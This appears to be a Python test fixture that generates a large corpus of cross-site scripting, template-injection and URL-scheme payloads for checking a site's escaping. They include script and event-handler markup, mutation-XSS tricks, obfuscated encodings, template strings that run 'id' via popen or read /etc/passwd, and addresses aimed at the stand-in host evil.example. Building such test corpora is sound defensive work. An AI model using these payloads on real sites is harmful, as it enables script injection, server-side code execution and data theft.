r"""Strings that run a script, load something or open another scheme wherever one escape is missing.

Made of parts written for this purpose: a way to run (`WAYS`), what ends the context that it stands in (`ENDS`) and a
spelling (`SPELLINGS`). What runs calls `__xss()`, which the browser that looks at the pages counts; what loads asks
`evil.example`, which it counts too.
"""

from collections.abc import Callable
from itertools import cycle

RUN = "__xss(1)"
ELSEWHERE = "//evil.example/x"

WAYS = [
    f"<script>{RUN}</script>",
    f"<script src={ELSEWHERE}></script>",
    f"<script type=module>{RUN}</script>",
    f"<script/x>{RUN}</script >",
    f"<script\n>{RUN}</script\t>",
    f"<img src=x onerror={RUN}>",
    f"<img/src='x'/onerror={RUN}>",
    f"<img src=x:x onerror\n=\n'{RUN}'>",
    f"<img srcset='{ELSEWHERE} 1x' onload={RUN}>",
    f"<picture><source srcset={ELSEWHERE}><img onerror={RUN}></picture>",
    f"<image src=x onerror={RUN}>",
    f"<svg onload={RUN}>",
    f"<svg/onload={RUN}//",
    f"<svg><script>{RUN}</script></svg>",
    f"<svg><script href=data:,{RUN} /></svg>",
    f"<svg><a xlink:href=javascript:{RUN}><text>x</text></a></svg>",
    f"<svg><animate onbegin={RUN} attributeName=x dur=1s>",
    f"<svg><set attributeName=href to=javascript:{RUN} /></svg>",
    f"<svg><use href=\"data:image/svg+xml,<svg id='x' xmlns='http://www.w3.org/2000/svg'><script>{RUN}</script></svg>#x\">",
    f"<svg><foreignObject><iframe srcdoc='<script>{RUN}</script>'></foreignObject></svg>",
    f"<math><mtext></mtext><mglyph><style><img src=x onerror={RUN}></style></mglyph></math>",
    f"<math href=javascript:{RUN}>x</math>",
    f"<math><maction actiontype=statusline xlink:href=javascript:{RUN}>x</maction></math>",
    f"<body onload={RUN}>",
    f"<body background=javascript:{RUN}>",
    f"<iframe src=javascript:{RUN}></iframe>",
    f"<iframe srcdoc='<script>parent.{RUN}</script>'></iframe>",
    f"<iframe onload={RUN}></iframe>",
    f"<frameset onload={RUN}><frame src={ELSEWHERE}></frameset>",
    f"<object data=javascript:{RUN}></object>",
    f"<object data=data:text/html,<script>{RUN}</script>></object>",
    f"<embed src=data:text/html,<script>{RUN}</script>>",
    f"<applet code={ELSEWHERE}></applet>",
    f"<details open ontoggle={RUN}>x</details>",
    f"<video><source onerror={RUN}></video>",
    f"<video src={ELSEWHERE} onloadstart={RUN} autoplay>",
    f"<audio src=x onerror={RUN} autoplay>",
    f"<input autofocus onfocus={RUN}>",
    f"<input type=image src={ELSEWHERE} formaction=javascript:{RUN}>",
    f"<select autofocus onfocus={RUN}></select>",
    f"<textarea autofocus onfocus={RUN}></textarea>",
    f"<button autofocus onfocus={RUN} formaction=javascript:{RUN}>x</button>",
    f"<form action=javascript:{RUN}><input type=submit></form>",
    f"<form><math><mtext></form><form><mglyph><style></math><img src onerror={RUN}>",
    f"<a href=javascript:{RUN}>x</a>",
    "<a href='data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg=='>x</a>",
    f"<a href=//evil.example ping={ELSEWHERE} onmouseover={RUN}>x</a>",
    f"<area href=javascript:{RUN} shape=default>",
    f"<base href={ELSEWHERE}>",
    f"<base target='{RUN}'>",
    f"<link rel=stylesheet href={ELSEWHERE}>",
    f"<link rel=preload as=script href={ELSEWHERE}>",
    f"<link rel='dns-prefetch preconnect' href={ELSEWHERE}>",
    f"<meta http-equiv=refresh content='0;url=javascript:{RUN}'>",
    f"<meta http-equiv=refresh content='0;url={ELSEWHERE}'>",
    '<meta http-equiv=Content-Security-Policy content="script-src *">',
    "<meta charset=utf-7>",
    f"<style>@import '{ELSEWHERE}';</style>",
    f"<style>*{{background:url({ELSEWHERE})}}</style>",
    f"<style onload={RUN}></style>",
    f'<p style="background:url({ELSEWHERE});x:expression({RUN});-moz-binding:url({ELSEWHERE})">x',
    f"<div style=animation-name:x onanimationstart={RUN}><style>@keyframes x{{}}</style>",
    f"<marquee onstart={RUN}>x</marquee>",
    f"<isindex action=javascript:{RUN} type=image>",
    f"<table background=javascript:{RUN}><td background={ELSEWHERE}>",
    f"<keygen autofocus onfocus={RUN}>",
    f"<dialog open onclose={RUN}><form method=dialog><button>x</button></form></dialog>",
    f"<template shadowrootmode=open><img src=x onerror={RUN}></template>",
    f"<portal src=javascript:{RUN}></portal>",
    f"<x onpointerrawupdate={RUN} onclick={RUN} contenteditable autofocus tabindex=1 onfocus={RUN}>x</x>",
    f"<xss/-/-/-/onpointerenter={RUN} style=position:fixed;inset:0>x",
    f'<?xml-stylesheet href="javascript:{RUN}"?>',
    f'<!DOCTYPE x [<!ENTITY x "<script>{RUN}</script>">]>&x;',
    f"<!--[if gte IE 4]><script>{RUN}</script><![endif]-->",
]  # fmt: skip
"""Ways in which markup runs a script or loads something."""

ENDS = [
    "",
    '">',
    "'>",
    "</title></head><body>",
    "</style>",
    "--></noscript></textarea>",
    "</script>",
    '"></a></mark></h3>',
    "]]>",
    "<!--RESPONSIVE-->",
    '\x00">',
    "</td></tr></table>",
]  # fmt: skip
"""What ends the element, attribute or comment that a text stands in."""

SPELLINGS: list[Callable[[str], str]] = [
    lambda text: text,
    str.swapcase,
    lambda text: text.replace("<", "&lt;").replace(">", "&gt;"),
    lambda text: text,
    lambda text: text.replace("<", "&#60").replace(">", "&#x3e;").replace('"', "&quot;"),
    lambda text: text.replace("<", "\\u003c").replace("'", "\\x27"),
    lambda text: text,
    lambda text: text.replace("script", "scr\u00adipt").replace("on", "o\u200bn"),
    lambda text: text.replace("<", "＜").replace(">", "＞"),
    lambda text: text.replace("<", "<\x00").replace("=", "=\x0c"),
    lambda text: text.replace("<", "%3C").replace(">", "%3E").replace(" ", "+"),
    lambda text: text.replace("<", "&amp;lt;").replace(">", "&amp;gt;"),
    lambda text: text.replace("s", "ſ").replace("i", "ı").replace("K", "\u212a"),
]
"""How it may be written so that it is read as markup only after somebody has undone something."""

ATTRIBUTES = [
    f"{mark}{space}{event}={inner}{RUN}{inner}{more}"
    for mark, inner in (('"', "'"), ("'", '"'), ("`", ""), ("", ""))
    for event, more in (
        ("onmouseover", ""),
        ("onfocus", " autofocus tabindex=1 x="),
        ("style=animation:x onanimationend", ""),
        ("onclick", "//"),
    )
    for space in (" ", "\n/")
]
"""Texts that leave the attribute that they stand in."""

TEMPLATES = [
    "{{7*7}}",
    "{{ self.__init__.__globals__.__builtins__.__import__('os').popen('id').read() }}",
    "{{ cycler.__init__.__globals__.os.popen('id').read() }}",
    "{{ joiner.__init__.__globals__ }}",
    "{% for x in ().__class__.__base__.__subclasses__() %}{{x}}{% endfor %}",
    "{% include '/etc/passwd' %}",
    "{% autoescape false %}<script>__xss(1)</script>{% endautoescape %}",
    "{{ '<script>__xss(1)</script>'|safe }}",
    "{{config}}{{request}}{{url_for.__globals__}}",
    "{# <script>__xss(1)</script> #}",
    "${7*7}#{7*7}<%= 7*7 %>@(7*7)[[7*7]]",
    "%(organisation)s %s %d %% %n %(x",
    "{0.__class__} {organisation} {}",
    "{{constructor.constructor('__xss(1)')()}}",
    "<div ng-app ng-csp>{{$eval.constructor('__xss(1)')()}}</div>",
    "<%00script>{{raw}}{% raw %}</script>",
]
"""Texts that a template engine would run, ours or a browser's."""

CHANGED_BY_PARSING = [
    f'<noscript><p title="</noscript><img src=x onerror={RUN}>">',
    f'<svg></p><style><a id="</style><img src=1 onerror={RUN}>">',
    f"<math><annotation-xml encoding=text/html><style><img src=x onerror={RUN}></style>",
    f"<listing>&lt;img src=x onerror={RUN}&gt;</listing>",
    f'<xmp><p title="</xmp><img src=x onerror={RUN}>">',
    f'<textarea><p title="</textarea><svg onload={RUN}>">',
    f"<noembed></noembed><plaintext><img src=x onerror={RUN}>",
    f"<table><td><select><math><mi></select><img src=x onerror={RUN}>",
    f"<form id=x></form><button form=x formaction=javascript:{RUN}>x",
    f"<svg><title><![CDATA[</title><img src=x onerror={RUN}>]]></svg>",
    f"<!--><img src=x onerror={RUN}>-->",
    f"<!--!><svg onload={RUN}>--!>",
    f"<![CDATA[><img src=x onerror={RUN}>]]>",
    f'<a title="--></a><img src=x onerror={RUN}>">',
    f'<p id="`><img src=x onerror={RUN}>">',
    f"<p title='&quot;><img src=x onerror={RUN}>'>",
]  # fmt: skip
"""Markup that means another thing after it was read and written again, as the letter's style inliner does."""

UNICODE = [
    f"\u202e<script>{RUN}</script>",
    f"\u2028<script>{RUN}</script>\u2029",
    f"\ufeff<script>{RUN}</script>",
    f"+ADw-script+AD4-{RUN}+ADw-/script+AD4-",
    f"\x1b$B<script>{RUN}</script>\x1b(B",
    f"\ud800<script>{RUN}</script>\udfff",
    f"¼script¾{RUN}¼/script¾",
    f"<ſcript>{RUN}</ſcript>",
    f"\u00a0\u3000<script\u00a0>{RUN}</script\u3000>",
    f"e\u0338<script>{RUN}\u0338</script>",
    f"\U000e003cscript\U000e003e{RUN}",
    "x" * 1_990 + f"<script>{RUN}</script>",
    "\u0301" * 300 + f"<script>{RUN}</script>",
]

_SCHEMES = [
    f"javascript:{RUN}",
    f"data:text/html,<script>{RUN}</script>",
    "data:text/html;base64,PHNjcmlwdD5fX3hzcygxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{RUN}'/>",
    f"vbscript:MsgBox({RUN})",
    f"livescript:{RUN}",
    "file:///etc/passwd",
    "ftp://evil.example/x",
    "blob:https://evil.example/x",
    "filesystem:https://evil.example/x",
    "view-source:https://evil.example/",
    "intent://evil.example#Intent;scheme=http;end",
    "ms-word:ofe|u|https://evil.example/x.docx",
    "search-ms:query=x&crumb=location:\\\\evil.example",
    "chrome://settings",
    "about:blank",
    "tel:0771",
]
_WRITTEN: list[Callable[[str], str]] = [
    lambda url: url,
    lambda url: url.swapcase(),
    lambda url: " \x01\x1f" + url,
    lambda url: url[:4] + "\t" + url[4:],
    lambda url: url[:2] + "\r\n" + url[2:],
    lambda url: url.replace(":", "&colon;", 1),
    lambda url: "".join(f"&#{ord(sign)};" for sign in url[:4]) + url[4:],
    lambda url: "".join(f"&#x{ord(sign):07x}" for sign in url[:4]) + url[4:],
    lambda url: url[:4] + "&Tab;" + url[4:].replace(":", "&NewLine;:", 1),
    lambda url: url.replace(":", "%3A", 1),
    lambda url: "\u200b" + url[:3] + "\u00ad" + url[3:],
    lambda url: url[:4] + "\x00" + url[4:],
]
ADDRESSES = [
    *(_WRITTEN[0](url) for url in _SCHEMES),
    *(write(url) for url in _SCHEMES[:6] for write in _WRITTEN[1:]),
    "//evil.example/x",
    "\\\\evil.example\\x",
    "/\\evil.example",
    "https:evil",
    "http:javascript:__xss(1)",
    "https://user:pass@evil.example\\@bra.example/",
    'https://bra.example/"onmouseover=__xss(1) x="',
    "https://bra.example/'><script>__xss(1)</script>",
    "https://bra.example/<svg onload=__xss(1)>",
    "https://bra.example/?q={{7*7}}&a=`b`&#x22;",
    'https://bra.example/#"><img src=x onerror=__xss(1)>',
    "https://bra.example/\r\nSet-Cookie: x=1",
    "https://b\u202era.example/",
    "https://аррӏе.example/",
    "ｊavascript:__xss(1)",
    "",
]  # fmt: skip
"""Addresses of other schemes, in whatever way they are written, and http addresses that try to leave their place."""


def _all() -> list[str]:
    """Every way twice: each time with the next end and the next spelling."""
    ends, spellings = cycle(ENDS), cycle(SPELLINGS)
    made = [next(spellings)(next(ends) + way) for _ in range(3) for way in WAYS]
    return list(dict.fromkeys([*WAYS, *made, *ATTRIBUTES, *TEMPLATES, *CHANGED_BY_PARSING, *UNICODE]))


STRINGS = _all()
